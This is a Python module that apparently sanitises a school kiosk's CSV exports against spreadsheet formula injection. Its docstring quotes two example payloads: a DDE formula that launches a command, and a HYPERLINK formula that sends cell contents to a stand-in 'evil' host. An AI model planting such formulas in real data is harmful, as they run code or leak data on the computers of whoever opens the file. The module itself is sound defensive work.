"""Safe CSV export: every CSV the kiosk writes goes through :func:`write_csv`.

Why: a spreadsheet (Excel, LibreOffice Calc, Google Sheets) treats a cell whose
first character is ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or
carriage return can hide one.  A pupil surname imported from the MIS such as
``=cmd|' /C calc'!A0`` or ``=HYPERLINK("http://evil/?"&A1)`` would run on the
office PC of whoever opens our export ("CSV injection", OWASP; OWASP ASVS 5.0
requirement 1.2.10).  The roster importer keeps such text verbatim, because it is
someone's data, so the defence belongs here, at export: such a cell gets a
leading apostrophe, which spreadsheets read as "this cell is text".  Plain-text
readers will see the apostrophe; that is the accepted price.

Files must be opened with ``newline=""`` (the csv module's rule) so the
``\\r\\n`` line endings Excel expects are written unchanged.  Use
``encoding="utf-8-sig"`` if the file is meant to be opened in Excel, so that
accented names (Ní Bhriain, Løvaas) survive.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

# The first characters that make a spreadsheet evaluate a cell, plus NUL (ASVS 1.2.10).
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r", "\0")


def neutralise(value: Any) -> str:
    """Return *value* as text that no spreadsheet will evaluate as a formula.

    ``None`` becomes ``""``.  Numbers (int, float, Decimal, not bool) become
    ``str(value)`` unchanged: ``-1`` from a number is a number to Excel, not a
    formula, and the Nursery year group is -1.  Anything else becomes
    ``str(value)`` and, if that starts with a character in :data:`DANGEROUS_FIRST`,
    gets a leading ``'``.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(DANGEROUS_FIRST):
        return "'" + text
    return text


def write_csv(fh: IO[str], header: list[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write *header* then *rows* to *fh*, every cell neutralised, ``\\r\\n`` line ends."""
    writer = csv.writer(fh, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
